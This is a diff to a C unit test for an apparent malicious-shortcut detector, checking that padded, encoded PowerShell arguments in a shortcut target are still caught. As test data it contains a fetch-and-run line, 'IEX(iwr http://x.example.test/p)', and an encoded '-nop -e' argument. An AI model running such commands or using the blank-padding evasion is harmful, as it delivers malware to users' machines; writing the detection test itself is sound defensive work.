@@ -298,6 +298,8 @@ static void padded_encoded_args(void **st)
     assert_true(eg_test_has_rule(r, "LNK.DOWNLOADER"));
     const char *ev = evidence_of(r, "CMD.POWERSHELL_ENCODED");
     assert_non_null(strstr(ev, "IEX(iwr http://x.example.test/p)"));
+    ev = evidence_of(r, "LNK.TARGET");
+    assert_non_null(strstr(ev, "| arguments: -nop -e SQBFAFgA")); /* the blanks do not hide them */
     eg_report_free(r);
     free(p);
 }
